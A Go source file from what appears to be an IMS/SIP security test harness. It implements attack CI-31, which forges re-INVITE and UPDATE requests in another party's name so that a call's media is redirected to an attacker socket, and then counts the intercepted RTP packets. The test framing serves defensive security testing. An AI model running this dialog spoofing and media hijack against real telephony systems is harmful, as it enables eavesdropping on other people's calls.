package attack

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"time"

	"imsafe/client/ue"
	"imsafe/proto/sdp"
	"imsafe/proto/sip"
	"imsafe/secure"
)

// mediaHijack: somebody who has read the identifiers of a call tells one end that the other is elsewhere now.
func mediaHijack() Attack {
	return Attack{
		ID: "ci.dialog.media-hijack", Number: "CI-31", Title: "a call of others, turned to the attacker's address",
		Text:     "who can say where media go hears what they say, and both of them hear him",
		Services: []Service{Integrity, Confidentiality}, Stride: Disclosing, Threats: []Threat{Disclosure, Corruption}, Module: ServicesControl,
		Source: "TS 33.203 7.1; RFC 3261 12.2, 14", Access: both(), Carried: []Access{UDP, TCP},
		Bounds: Bounds{Packets: 60, Bytes: 80_000, Conns: 3, Time: 3 * time.Second},
		Variants: []Variant{
			{Position: Subscriber, Run: turnMedia, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}},
		},
	}
}

// turnMedia sends re-INVITEs and UPDATEs in bob's name. Carol's telephone does what they say, as telephones do whose media nobody has signed.
func turnMedia(ctx context.Context, f *Field, o *Outcome) error {
	carol, mallory, err := f.carolAndMallory(ctx)
	if err != nil {
		return err
	}
	ear, err := f.attacker.ListenPacket(f.here())
	if err != nil {
		return err
	}
	var heard counter
	done := make(chan struct{})
	go func() {
		defer close(done)
		heard.datagrams(ear)
	}()
	defer func() { _ = ear.Close(); <-done }()
	at := netip.MustParseAddrPort(ear.LocalAddr().String())
	in, err := carol.callsUp(ctx, f.Bob)
	if err != nil {
		return err
	}
	defer in.Hangup()
	const times = 5
	sent := 0
	for i := range times {
		leg, err := in.Leg(ctx)
		if err != nil {
			return err
		}
		r := Request{Method: []string{"INVITE", "UPDATE"}[i%2], URI: leg.Target, From: leg.Local, FromTag: leg.LocalTag, To: leg.Remote, ToTag: leg.RemoteTag,
			CallID: leg.CallID, CSeq: leg.Seq + 100 + uint32(i), Lines: []string{"Contact: " + mallory.Contact(), "Content-Type: application/sdp"}, Body: describes(at)}
		for _, hop := range leg.Route {
			r.Lines = append(r.Lines, "Route: "+hop)
		}
		status, err := mallory.answered(ctx, mallory.Text(r))
		if err != nil {
			return err
		}
		o.Arrived("%d requests in bob's name, the last answered %d", i+1, status)
		told, err := carol.sendsMedia(ctx, r.Method)
		if err != nil {
			return err
		}
		sent += told
	}
	if sent > 0 {
		_ = within(ctx, soon, func(ctx context.Context) error { return heard.until(ctx, 1) })
	}
	n, _ := heard.seen()
	o.Users = min(n, 1)
	o.Wire(n > 0, "%d packets of carol's media are at the attacker's; her telephone was told %d of %d times that bob is there", n, sent, times)
	return nil
}

// callsUp calls a party, who answers, and acknowledges. The call stands when it returns without an error.
func (h *Hand) callsUp(ctx context.Context, p *Party) (*ue.Call, error) {
	r := Request{Method: "INVITE", URI: p.IMPU, CallID: h.f.token(), Lines: []string{"Contact: " + h.Contact(), "Content-Type: application/sdp"},
		Body: describes(netip.AddrPortFrom(h.f.here(), 9))}
	if err := h.Write(h.Text(r)); err != nil {
		return nil, err
	}
	in, err := p.Rung(ctx)
	if err != nil {
		return nil, err
	}
	in.Answer(ue.Voice{})
	answer, err := h.Await(ctx, func(m *sip.Message) bool { return isFinal(m) && string(m.Get(sip.HdrCallID)) == r.CallID })
	if err != nil {
		return nil, err
	}
	if answer.Status() != 200 {
		return nil, fmt.Errorf("attack: %s's call is answered %d", h.Name, answer.Status())
	}
	target, err := sip.ParseNameAddr(answer.Get(sip.HdrContact))
	if err != nil {
		return nil, fmt.Errorf("attack: %w", err)
	}
	ack := Request{Method: "ACK", URI: string(target.URI), To: r.URI, ToTag: string(answer.ToTag()), CallID: r.CallID, CSeq: h.number}
	for v := range answer.Values(sip.HdrRecordRoute) {
		ack.Lines = append([]string{"Route: " + string(v)}, ack.Lines...)
	}
	return in, h.Write(h.Text(ack))
}

// sendsMedia sends a packet to wherever a request says that the other end is, if there is one: how often it did.
func (h *Hand) sendsMedia(ctx context.Context, method string) (n int, err error) {
	var m *sip.Message
	err = within(ctx, soon/10, func(ctx context.Context) (err error) {
		m, err = h.Await(ctx, func(m *sip.Message) bool { return m.IsRequest() && string(m.MethodName()) == method })
		return err
	})
	if errors.Is(err, ErrSilence) && ctx.Err() == nil {
		return 0, nil
	}
	if err != nil {
		return 0, err
	}
	s, err := sdp.Parse(m.Body(), sdp.Limits{})
	if err != nil || len(s.Media) == 0 {
		return 0, nil
	}
	conn, err := h.f.honest.Dial(ctx, "udp", netip.Addr{}, netip.AddrPortFrom(s.Media[0].Address, s.Media[0].Port))
	if err != nil {
		return 0, err
	}
	defer func() { _ = conn.Close() }()
	_, err = conn.Write(make([]byte, 12+160)) // RTP (RFC 3550 5.1) and 20 ms of G.711
	return 1, err
}

// describes is a description of audio at an address, with keys that nobody will be asked for.
func describes(at netip.AddrPort) string {
	return fmt.Sprintf("v=0\r\no=- 1 1 IN IP4 %[1]s\r\ns=-\r\nc=IN IP4 %[1]s\r\nt=0 0\r\nm=audio %[2]d UDP/TLS/RTP/SAVP 8\r\na=setup:actpass\r\na=rtcp-mux\r\n"+
		"a=fingerprint:sha-256 %[3]s\r\n", at.Addr(), at.Port(), strings.TrimSuffix(strings.Repeat("A5:", 32), ":"))
}

// datagrams counts what comes to a socket until it is closed.
func (c *counter) datagrams(conn net.PacketConn) {
	var b [2048]byte
	for {
		n, _, err := conn.ReadFrom(b[:])
		if err != nil {
			return
		}
		c.add(n)
	}
}
